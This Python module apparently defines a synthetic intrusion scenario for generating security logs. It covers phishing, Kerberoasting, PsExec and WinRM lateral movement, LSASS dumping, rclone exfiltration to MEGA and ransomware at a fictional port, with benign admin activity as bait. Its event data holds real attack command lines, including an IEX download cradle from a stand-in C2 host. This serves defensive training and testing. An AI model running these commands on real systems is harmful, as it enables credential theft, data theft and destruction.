"""Variant "harbor": a 2024 intrusion at a port authority (NORTHHARBOR.LOCAL), cleanly evicted.

A phished finance workstation, Kerberoasting, PsExec and WinRM lateral movement, scheduled-task
persistence, 7-Zip staging and rclone exfiltration to MEGA, one file server encrypted. The
eviction on 2024-04-09 is real: nothing of the attacker's happens after it. Benign bait: a
sanctioned PsExec from the admin jump host, nightly backup shadow pruning and rclone offsite
sync, helpdesk RDP, DBA password-protected 7-Zip archives, WinRM monitoring.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import TYPE_CHECKING

from dwell.scenario._clock import HOUR, US, to_dt, ts
from dwell.scenario._compose import (
    CMD,
    EXPLORER,
    POWERSHELL,
    S32,
    psexec,
    rdp_from,
    session_cmd,
    winrm,
)
from dwell.scenario.actions import (
    SYSTEM,
    AccountChange,
    Connect,
    Dns,
    ExplicitCred,
    FileDelete,
    FileWrite,
    Kerberos,
    Proc,
    ProcessRead,
    Script,
    ShareFile,
    TaskCreate,
)
from dwell.scenario.background import poisson
from dwell.scenario.model import Account, Action, Bait, Cadence, Host, Milestone, Scenario, Step

if TYPE_CHECKING:
    from dwell.scenario._context import Ctx

DOMAIN = "NORTHHARBOR.LOCAL"
NB = "NHARBOR"
C2_IP = "192.0.2.44"
C2_NAME = "cdn-telemetry-sync.com"
MEGA_API = "192.0.2.201"
MEGA_STORE = "192.0.2.200"
VICTIM = f"{NB}\\m.ortega"
ROAST = f"{NB}\\svc_backup"
DA = f"{NB}\\adm.tlinde"
LOADER = "C:\\Users\\m.ortega\\AppData\\Roaming\\Microsoft\\Crypto\\msupd.dll"
RUNDLL = S32 + "rundll32.exe"
PSEXEC_TMP = "C:\\Users\\m.ortega\\AppData\\Local\\Temp\\PsExec64.exe"
COMSVCS_TRACE = ("C:\\Windows\\SYSTEM32\\ntdll.dll+a0764|C:\\Windows\\System32\\KERNELBASE.dll"
                 "+71ab6|C:\\Windows\\SYSTEM32\\dbgcore.DLL+6c4e|C:\\Windows\\System32\\"
                 "comsvcs.dll+39e6f|C:\\Windows\\System32\\rundll32.exe+3bb2")

HOSTS = (
    Host("NH-DC01", "172.20.1.10", "Domain controller", "dc", "2019", sysmon=False,
         proc_audit=True, computer="NH-DC01.NORTHHARBOR.LOCAL"),
    Host("NH-DC02", "172.20.1.11", "Domain controller", "dc", "2019", sysmon=False,
         proc_audit=True, computer="NH-DC02.NORTHHARBOR.LOCAL"),
    Host("NH-FS01", "172.20.1.20", "File server (operations and finance shares)", "server",
         "2019", features=frozenset({"fileserver"})),
    Host("NH-SQL01", "172.20.1.30", "Terminal operating system database", "server", "2019",
         features=frozenset({"sql"})),
    Host("NH-TOS01", "172.20.1.31", "Terminal operating system application server", "server",
         "2019"),
    Host("NH-BKP01", "172.20.1.40", "Backup server (Veeam, offsite sync)", "server", "2019"),
    Host("NH-JUMP01", "172.20.5.5", "Admin jump host", "server", "2019"),
    Host("NH-WS014", "172.20.10.14", "Finance workstation (phished)", "workstation", "win10",
         users=("m.ortega",)),
    Host("NH-WS021", "172.20.10.21", "Operations workstation", "workstation", "win10",
         users=("k.nguyen", "d.alvarez"), computer="nh-ws021.northharbor.local"),
    Host("NH-WS033", "172.20.10.33", "Harbour-master workstation", "workstation", "win10",
         users=("p.silva",)),
    Host("NH-WS047", "172.20.10.47", "Customs liaison workstation", "workstation", "win10",
         users=("r.okafor", "l.moreau")),
    Host("NH-HD01", "172.20.10.5", "Helpdesk workstation", "workstation", "win10",
         users=("it.helpdesk", "t.brandt")),
)

ACCOUNTS = (
    Account("Administrator", 500, "Built-in administrator", admin=True),
    Account("adm.tlinde", 1105, "Domain administrator", admin=True),
    Account("j.kowal", 1106, "Systems administrator", admin=True),
    Account("svc_backup", 1120, "Backup service (SPN, RC4)"),
    Account("svc_sql", 1121, "SQL Server service (SPN)"),
    Account("svc_monitor", 1145, "Monitoring"),
    Account("it.helpdesk", 1150, "Helpdesk", admin=True),
    Account("dba.ferris", 1160, "Database administrator", admin=True),
    Account("m.ortega", 1311, "Finance clerk"),
    Account("k.nguyen", 1312, "Operations planner"),
)

STAFF = ("m.ortega", "k.nguyen", "d.alvarez", "p.silva", "r.okafor", "l.moreau", "t.brandt",
         "a.kim", "b.osei", "c.dubois", "e.novak", "f.haddad", "g.rossi", "h.tanaka",
         "i.petrov", "j.kowal", "n.schmidt", "o.ali", "s.mendes", "v.horvat")

IPS = {h.name: h.ip for h in HOSTS}
SERVERS = ("NH-FS01", "NH-SQL01", "NH-TOS01", "NH-BKP01")


def _flat(parts: Iterable[Action | tuple[Action, ...]]) -> tuple[Action, ...]:
    out: list[Action] = []
    for part in parts:
        if isinstance(part, tuple):
            out.extend(part)
        else:
            out.append(part)
    return tuple(out)


def S(sid: str, when: str, host: str, what: str, *parts: Action | tuple[Action, ...],
      impact: tuple[str, ...] = (), exfil: tuple[str, ...] = ()) -> Step:
    """One row of the step table."""
    return Step(sid, ts(when), host, what, _flat(parts), impact, exfil)


def implant_cmd(at: float, cmd: str) -> tuple[Action, ...]:
    """A command run by the loader on NH-WS014: rundll32 → cmd /c → tool."""
    from dwell.scenario._compose import children

    return (
        Proc("NH-WS014", at, CMD, f"C:\\Windows\\system32\\cmd.exe /c {cmd}", VICTIM, RUNDLL,
             integrity="Medium", lifetime=2.0),
        *children(cmd, "NH-WS014", VICTIM, at, integrity="Medium"),
    )


def _beacons(start: str, end: str, every_hours: float) -> tuple[Action, ...]:
    """C2 beacons of the loader between two times (offsets from ``start``)."""
    first, last = ts(start), ts(end)
    out: list[Action] = []
    n = 0
    t = first
    while t < last:
        at = (t - first) / US
        out.append(Connect("NH-WS014", at, RUNDLL, VICTIM, C2_IP, 443, C2_NAME))
        n += 1
        t = first + int(n * every_hours * HOUR) + (n * 977 % 1800) * US
    return tuple(out)


def _task_runs(start: str, end: str) -> tuple[Action, ...]:
    """Executions of the SvcHealth task on NH-TOS01 (twice a day) until removal."""
    first, last = ts(start), ts(end)
    out: list[Action] = []
    t = first
    while t < last:
        at = (t - first) / US
        out.append(Proc("NH-TOS01", at, POWERSHELL, "powershell.exe -nop -w hidden -ep bypass -f "
                        "C:\\ProgramData\\Microsoft\\svchealth.ps1", SYSTEM, S32 + "svchost.exe",
                        "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule", SYSTEM,
                        integrity="System", lifetime=20.0))
        out.append(Connect("NH-TOS01", at + 3, POWERSHELL, SYSTEM, C2_IP, 443, C2_NAME))
        t += 12 * HOUR
    return tuple(out)


def _steps() -> tuple[Step, ...]:
    outlook_cache = ("C:\\Users\\m.ortega\\AppData\\Local\\Microsoft\\Windows\\INetCache\\"
                     "Content.Outlook\\7Q2XK1AB\\")
    outlook = "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE"
    return (
        S("H01", "2024-03-04 14:12", "NH-WS014",
          "phishing ISO opened; LNK runs rundll32 loader; first C2 beacon",
          FileWrite("NH-WS014", 0, outlook_cache + "Invoice_0424.iso", outlook, VICTIM),
          Proc("NH-WS014", 35, RUNDLL, "\"C:\\Windows\\System32\\rundll32.exe\" "
               "E:\\docs\\invoice.dll,InitW", VICTIM, EXPLORER, integrity="Medium"),
          Dns("NH-WS014", 36, RUNDLL, VICTIM, C2_NAME, C2_IP),
          Connect("NH-WS014", 37, RUNDLL, VICTIM, C2_IP, 443, C2_NAME),
          FileWrite("NH-WS014", 40, LOADER, RUNDLL, VICTIM)),
        S("H02", "2024-03-04 14:40", "NH-WS014", "discovery through the implant",
          implant_cmd(0, "whoami /all"),
          implant_cmd(30, "nltest /dclist:northharbor.local"),
          implant_cmd(70, 'net group "Domain Admins" /domain'),
          implant_cmd(110, "ipconfig /all")),
        S("H04", "2024-03-05 15:05", "NH-WS014", "persistence: scheduled task OneDriveUpdateCore",
          implant_cmd(0, 'schtasks /create /tn "OneDriveUpdateCore" /tr "rundll32.exe '
                      f'{LOADER},InitW" /sc daily /st 09:00 /f'),
          TaskCreate("NH-WS014", 1.5, "\\OneDriveUpdateCore", "rundll32.exe", f"{LOADER},InitW",
                     VICTIM, run_as=f"{NB}\\m.ortega")),
        S("H05", "2024-03-08 16:20", "NH-WS014",
          "Kerberoasting svc_backup and svc_sql (RC4 service tickets)",
          Proc("NH-WS014", 0, POWERSHELL, "powershell.exe -nop -w hidden -c \"IEX (New-Object "
               f"Net.WebClient).DownloadString('https://{C2_NAME}/r.ps1'); Invoke-Kerberoast "
               "-OutputFormat Hashcat | Out-File C:\\Users\\Public\\k.txt\"", VICTIM, RUNDLL,
               integrity="Medium", lifetime=25.0),
          Script("NH-WS014", 2, "Invoke-Kerberoast -OutputFormat Hashcat | Out-File "
                 "C:\\Users\\Public\\k.txt", VICTIM, host_app="powershell.exe -nop -w hidden",
                 warning=True),
          Kerberos("NH-DC01", 4, VICTIM, ("svc_backup", "svc_sql"), IPS["NH-WS014"]),
          FileWrite("NH-WS014", 8, "C:\\Users\\Public\\k.txt", POWERSHELL, VICTIM)),
        S("H06", "2024-03-13 16:02", "NH-FS01",
          "PsExec to the file server with the cracked svc_backup password",
          FileWrite("NH-WS014", -30, PSEXEC_TMP, RUNDLL, VICTIM),
          ExplicitCred("NH-WS014", -1, VICTIM, ROAST, "NH-FS01.northharbor.local",
                       PSEXEC_TMP, IPS["NH-FS01"]),
          psexec("NH-WS014", "NH-FS01", 0, user=ROAST, src_ip=IPS["NH-WS014"],
                 dst_ip=IPS["NH-FS01"], cmd="cmd /c whoami & ipconfig", tool=PSEXEC_TMP,
                 parent=RUNDLL)),
        S("H07", "2024-03-13 16:20", "NH-FS01",
          "LSASS dumped with comsvcs on NH-FS01: adm.tlinde credentials",
          psexec("NH-WS014", "NH-FS01", 0, user=ROAST, src_ip=IPS["NH-WS014"],
                 dst_ip=IPS["NH-FS01"], cmd="cmd /c rundll32.exe C:\\Windows\\System32\\"
                 "comsvcs.dll, MiniDump {lsass} C:\\Windows\\Temp\\fs.dmp full", tool=PSEXEC_TMP,
                 parent=RUNDLL, src_pid_tag=5120),
          ProcessRead("NH-FS01", 5, RUNDLL, SYSTEM, "0x1fffff", COMSVCS_TRACE),
          FileWrite("NH-FS01", 6, "C:\\Windows\\Temp\\fs.dmp", RUNDLL, SYSTEM),
          ShareFile("NH-FS01", 40, ROAST, IPS["NH-WS014"], "ADMIN$", "\\??\\C:\\Windows",
                    "Temp\\fs.dmp", "0x120089", connect=False),
          FileDelete("NH-FS01", 80, "C:\\Windows\\Temp\\fs.dmp", CMD, SYSTEM)),
        S("H08", "2024-03-19 03:10", "NH-SQL01",
          "WinRM to the TOS database server as domain admin adm.tlinde",
          ExplicitCred("NH-WS014", -2, VICTIM, DA, "NH-SQL01.northharbor.local", POWERSHELL,
                       IPS["NH-SQL01"]),
          winrm("NH-WS014", "NH-SQL01", 0, user=DA, src_ip=IPS["NH-WS014"],
                dst_ip=IPS["NH-SQL01"], script="whoami; Get-PSDrive -PSProvider FileSystem",
                native=("whoami /groups",))),
        S("H09", "2024-03-19 03:25", "NH-SQL01", "TOS manifests exported with sqlcmd",
          winrm("NH-WS014", "NH-SQL01", 0, user=DA, src_ip=IPS["NH-WS014"],
                dst_ip=IPS["NH-SQL01"],
                script="sqlcmd -S localhost -E -Q \"SELECT * FROM TOS.dbo.Manifests\" -s \",\" "
                       "-o C:\\ProgramData\\tos_manifests.csv",
                native=('sqlcmd -S localhost -E -Q "SELECT * FROM TOS.dbo.Manifests" -s "," -o '
                        "C:\\ProgramData\\tos_manifests.csv",)),
          FileWrite("NH-SQL01", 12, "C:\\ProgramData\\tos_manifests.csv",
                    "C:\\Program Files\\Microsoft SQL Server\\Client SDK\\ODBC\\170\\Tools\\Binn\\"
                    "SQLCMD.EXE", DA)),
        S("H10", "2024-03-19 03:40", "NH-SQL01", "7-Zip archive with password (p.7z)",
          FileWrite("NH-SQL01", -20, "C:\\ProgramData\\7z.exe", S32 + "wsmprovhost.exe", DA),
          winrm("NH-WS014", "NH-SQL01", 0, user=DA, src_ip=IPS["NH-WS014"],
                dst_ip=IPS["NH-SQL01"],
                script="C:\\ProgramData\\7z.exe a -t7z -pH4rb0r!24 -mhe=on C:\\ProgramData\\p.7z "
                       "C:\\ProgramData\\tos_manifests.csv",
                native=("C:\\ProgramData\\7z.exe a -t7z -pH4rb0r!24 -mhe=on "
                        "C:\\ProgramData\\p.7z C:\\ProgramData\\tos_manifests.csv",)),
          FileWrite("NH-SQL01", 15, "C:\\ProgramData\\p.7z", "C:\\ProgramData\\7z.exe", DA)),
        S("H11", "2024-03-20 06:15", "NH-SQL01", "rclone copy of p.7z to MEGA",
          FileWrite("NH-SQL01", -30, "C:\\ProgramData\\rclone.exe", S32 + "wsmprovhost.exe", DA),
          FileWrite("NH-SQL01", -25, "C:\\Users\\adm.tlinde\\.config\\rclone\\rclone.conf",
                    S32 + "wsmprovhost.exe", DA),
          winrm("NH-WS014", "NH-SQL01", 0, user=DA, src_ip=IPS["NH-WS014"],
                dst_ip=IPS["NH-SQL01"],
                script="C:\\ProgramData\\rclone.exe copy C:\\ProgramData\\p.7z mega:bk "
                       "--transfers 8 --no-check-certificate -q",
                native=("C:\\ProgramData\\rclone.exe copy C:\\ProgramData\\p.7z mega:bk "
                        "--transfers 8 --no-check-certificate -q",)),
          Dns("NH-SQL01", 4, "C:\\ProgramData\\rclone.exe", DA, "g.api.mega.co.nz", MEGA_API),
          Connect("NH-SQL01", 4.5, "C:\\ProgramData\\rclone.exe", DA, MEGA_API, 443,
                  "g.api.mega.co.nz"),
          Connect("NH-SQL01", 6, "C:\\ProgramData\\rclone.exe", DA, MEGA_STORE, 443,
                  "gfs208n103.userstorage.mega.co.nz", count=8, spread=20.0),
          exfil=("NH-SQL01",)),
        S("H12", "2024-03-26 02:30", "NH-TOS01",
          "scheduled task SvcHealth (PowerShell from C:\\ProgramData) over WinRM",
          winrm("NH-WS014", "NH-TOS01", 0, user=DA, src_ip=IPS["NH-WS014"],
                dst_ip=IPS["NH-TOS01"],
                script="Set-Content C:\\ProgramData\\Microsoft\\svchealth.ps1 $payload",
                native=('schtasks /create /tn "\\Microsoft\\Windows\\Maintenance\\SvcHealth" '
                        '/tr "powershell.exe -nop -w hidden -ep bypass -f '
                        'C:\\ProgramData\\Microsoft\\svchealth.ps1" /sc hourly /mo 12 /ru SYSTEM '
                        "/f",)),
          FileWrite("NH-TOS01", 2.8, "C:\\ProgramData\\Microsoft\\svchealth.ps1",
                    S32 + "wsmprovhost.exe", DA),
          TaskCreate("NH-TOS01", 4, "\\Microsoft\\Windows\\Maintenance\\SvcHealth",
                     "powershell.exe", "-nop -w hidden -ep bypass -f "
                     "C:\\ProgramData\\Microsoft\\svchealth.ps1", DA)),
        Step("H13", ts("2024-03-26 14:30"), "NH-TOS01",
             "SvcHealth task beacons twice a day", _task_runs("2024-03-26 14:30",
                                                              "2024-04-05 12:00")),
        S("H14", "2024-04-02 07:05", "NH-FS01",
          "encryptor pushed with PsExec as adm.tlinde: shadows deleted, shares encrypted",
          ShareFile("NH-FS01", -40, DA, IPS["NH-WS014"], "C$", "\\??\\C:\\",
                    "ProgramData\\svchelper.exe", "0x2"),
          FileWrite("NH-FS01", -39, "C:\\ProgramData\\svchelper.exe"),
          psexec("NH-WS014", "NH-FS01", 0, user=DA, src_ip=IPS["NH-WS014"],
                 dst_ip=IPS["NH-FS01"], cmd="cmd /c C:\\ProgramData\\svchelper.exe --path "
                 "D:\\Shares --note README_RESTORE.txt", tool=PSEXEC_TMP, parent=RUNDLL,
                 src_pid_tag=7312),
          _encrypt_fs(8), impact=("NH-FS01",)),
        Step("H03", ts("2024-03-04 15:12"), "NH-WS014", "implant beacons (every ~6 h)",
             _beacons("2024-03-04 15:12", "2024-04-05 13:00", 6.0)),
    )


def _encrypt_fs(at: float) -> tuple[Action, ...]:
    """svchelper.exe encrypting NH-FS01 shares."""
    enc = "C:\\ProgramData\\svchelper.exe"
    acts: list[Action] = [
        Proc("NH-FS01", at, CMD, "cmd.exe /c vssadmin delete shadows /all /quiet", SYSTEM, enc,
             integrity="System", lifetime=3.0),
        Proc("NH-FS01", at + 0.6, S32 + "vssadmin.exe", "vssadmin  delete shadows /all /quiet",
             SYSTEM, CMD, integrity="System", lifetime=2.0),
        FileWrite("NH-FS01", at + 10, "D:\\Shares\\README_RESTORE.txt", enc, SYSTEM),
    ]
    names = ("berth_schedule_Q2.xlsx", "crane_maintenance.docx", "customs_manifest_0412.pdf",
             "invoices_march.xlsx", "vessel_photos_0331.jpg", "board_minutes.docx")
    for i in range(24):
        name = names[i % len(names)]
        folder = ("Operations", "Finance", "Customs", "Board")[i % 4]
        path = f"D:\\Shares\\{folder}\\{i:02d}_{name}"
        acts.append(FileWrite("NH-FS01", at + 15 + i * 1.5, f"{path}.k8r", enc, SYSTEM))
        acts.append(FileDelete("NH-FS01", at + 15.5 + i * 1.5, path, enc, SYSTEM))
    return tuple(acts)


def _milestones() -> tuple[Milestone, ...]:
    sec = f"{NB}\\j.kowal"
    return (
        Milestone("E1", ts("2024-04-09 18:00"), "eviction",
                  "eviction: workstation reimaged, SvcHealth removed, all privileged and "
                  "service passwords rotated (twice), krbtgt reset", "", (
                      AccountChange("NH-DC01", 0, 4724, DA, sec),
                      AccountChange("NH-DC01", 20, 4724, ROAST, sec),
                      AccountChange("NH-DC01", 40, 4724, f"{NB}\\svc_sql", sec),
                      AccountChange("NH-DC01", 60, 4724, f"{NB}\\krbtgt", sec),
                  )),
    )


# -- benign bait --------------------------------------------------------------------------


def _run(ctx: Ctx, t: int, actions: Iterable[Action]) -> None:
    for action in actions:
        action.emit(ctx, t)


def hb01_sanctioned_psexec(ctx: Ctx, t: int) -> None:
    """Weekly patch check with PsExec by the sysadmin from the jump host."""
    dst = SERVERS[ctx.rng.randrange(len(SERVERS))]
    _run(ctx, t, psexec("NH-JUMP01", dst, 0, user=f"{NB}\\j.kowal", src_ip=IPS["NH-JUMP01"],
                        dst_ip=IPS[dst], cmd="cmd /c wmic qfe list brief",
                        tool="C:\\Tools\\Sysinternals\\PsExec64.exe", parent=POWERSHELL,
                        src_pid_tag=ctx.rng.randrange(1000, 9999)))


def hb02_backup_shadows(ctx: Ctx, t: int) -> None:
    """Nightly Veeam job prunes old shadow copies on NH-BKP01."""
    veeam = "C:\\Program Files\\Veeam\\Endpoint Backup\\VeeamAgent.exe"
    _run(ctx, t, (
        Proc("NH-BKP01", 0, CMD, '"C:\\Windows\\system32\\cmd.exe" /c vssadmin delete shadows '
             "/for=E: /oldest /quiet", ROAST, veeam, f'"{veeam}" -job nightly', ROAST,
             lifetime=3.0),
        Proc("NH-BKP01", 0.6, S32 + "vssadmin.exe", "vssadmin  delete shadows /for=E: /oldest "
             "/quiet", ROAST, CMD, lifetime=2.0),
    ))


def hb03_helpdesk_rdp(ctx: Ctx, t: int) -> None:
    """Helpdesk RDP from NH-HD01 to a user's workstation."""
    targets = ("NH-WS014", "NH-WS021", "NH-WS033", "NH-WS047")
    alive = [h for h in targets if ctx.alive(h, t)]
    if not alive:
        return
    dst = alive[ctx.rng.randrange(len(alive))]
    _run(ctx, t, rdp_from("NH-HD01", IPS["NH-HD01"], dst, IPS[dst], 0,
                          user=f"{NB}\\it.helpdesk", workstation="NH-HD01",
                          duration=ctx.rng.randrange(5, 30) * 60.0))


def hb04_dba_7zip(ctx: Ctx, t: int) -> None:
    """Weekly password-protected 7-Zip archive of the TOS backup for offsite storage."""
    stamp = to_dt(t).strftime("%Y%m%d")
    seven = "C:\\Program Files\\7-Zip\\7z.exe"
    dba = f"{NB}\\dba.ferris"
    _run(ctx, t, (
        Proc("NH-SQL01", 0, seven, f'"{seven}" a -t7z -pOffsite2024! -mhe=on '
             f"E:\\Offsite\\TOS_{stamp}.7z D:\\SQLBackup\\TOS_full.bak", dba, CMD,
             '"C:\\Windows\\system32\\cmd.exe" /k', dba, lifetime=300.0),
    ))


def hb05_rclone_offsite(ctx: Ctx, t: int) -> None:
    """Nightly sanctioned rclone sync of backup copies to the company's S3 bucket."""
    rclone = "C:\\Program Files\\rclone\\rclone.exe"
    _run(ctx, t, (
        Proc("NH-BKP01", 0, rclone, f'"{rclone}" sync E:\\VeeamRepo\\Offsite '
             "s3-nh:nh-offsite-backups --transfers 4 --log-file E:\\Logs\\rclone.log", ROAST,
             S32 + "svchost.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
             SYSTEM, lifetime=1800.0),
        Dns("NH-BKP01", 1, rclone, ROAST, "nh-offsite-backups.s3.us-east-1.amazonaws.com",
            "52.216.8.131"),
        Connect("NH-BKP01", 2, rclone, ROAST, "52.216.8.131", 443, "s3-us-east-1.amazonaws.com",
                count=1 + poisson(ctx.rng, 2 * ctx.scale), spread=60.0),
    ))


def hb06_winrm_monitoring(ctx: Ctx, t: int) -> None:
    """Daily WinRM health check from the jump host by svc_monitor."""
    dst = SERVERS[ctx.rng.randrange(len(SERVERS))]
    if not ctx.alive(dst, t):
        return
    _run(ctx, t, winrm("NH-JUMP01", dst, 0, user=f"{NB}\\svc_monitor",
                       src_ip=IPS["NH-JUMP01"], dst_ip=IPS[dst],
                       script="Get-Service | Where-Object Status -ne 'Running'",
                       native=("hostname",)))


def hb07_updater_tasks(ctx: Ctx, t: int) -> None:
    """A browser updater registers its scheduled task on a workstation."""
    ws = [h.name for h in HOSTS if h.kind == "workstation" and ctx.alive(h.name, t)]
    host = ws[ctx.rng.randrange(len(ws))]
    guid = ctx.guid()
    _run(ctx, t, (
        TaskCreate(host, 0, f"\\GoogleUpdateTaskMachineUA{{{guid}}}",
                   "C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe",
                   "/ua /installsource scheduler", SYSTEM),
    ))


def hb08_admin_rdp(ctx: Ctx, t: int) -> None:
    """The sysadmin RDPs from the jump host to a server."""
    dst = SERVERS[ctx.rng.randrange(len(SERVERS))]
    if not ctx.alive(dst, t):
        return
    _run(ctx, t, (
        *rdp_from("NH-JUMP01", IPS["NH-JUMP01"], dst, IPS[dst], 0, user=f"{NB}\\j.kowal",
                  workstation="NH-JUMP01", duration=ctx.rng.randrange(10, 50) * 60.0),
        *session_cmd(dst, 120, f"{NB}\\j.kowal", "ipconfig /all"),
    ))


def _baits() -> tuple[Bait, ...]:
    return (
        Bait("HB01", "sanctioned PsExec from the admin jump host",
             Cadence("weekly", 10.0, 90, 0.9, weekday=1), hb01_sanctioned_psexec),
        Bait("HB02", "Veeam prunes shadow copies", Cadence("daily", 1.0, 10),
             hb02_backup_shadows),
        Bait("HB03", "helpdesk RDP to workstations", Cadence("weekdays", 11.0, 180, 0.7),
             hb03_helpdesk_rdp),
        Bait("HB04", "DBA password-protected 7-Zip for offsite",
             Cadence("weekly", 17.0, 40, 0.9, weekday=3), hb04_dba_7zip),
        Bait("HB05", "sanctioned rclone sync to S3", Cadence("daily", 2.5, 10),
             hb05_rclone_offsite),
        Bait("HB06", "WinRM monitoring from the jump host", Cadence("daily", 6.0, 20),
             hb06_winrm_monitoring),
        Bait("HB07", "browser updater scheduled task", Cadence("weekly", 13.0, 240, 0.6,
                                                               weekday=3), hb07_updater_tasks),
        Bait("HB08", "admin RDP from the jump host", Cadence("weekdays", 14.0, 180, 0.4),
             hb08_admin_rdp),
    )


def build() -> Scenario:
    """The harbor scenario."""
    return Scenario(
        variant="harbor",
        domain=DOMAIN,
        netbios=NB,
        domain_sid="S-1-5-21-3398712207-2411906457-1188452390",
        start=ts("2024-02-01"),
        end=ts("2024-07-01"),
        tz_hours=-5,
        hosts=HOSTS,
        accounts=ACCOUNTS,
        steps=_steps(),
        milestones=_milestones(),
        baits=_baits(),
        density=2.1,
        staff=STAFF,
    )

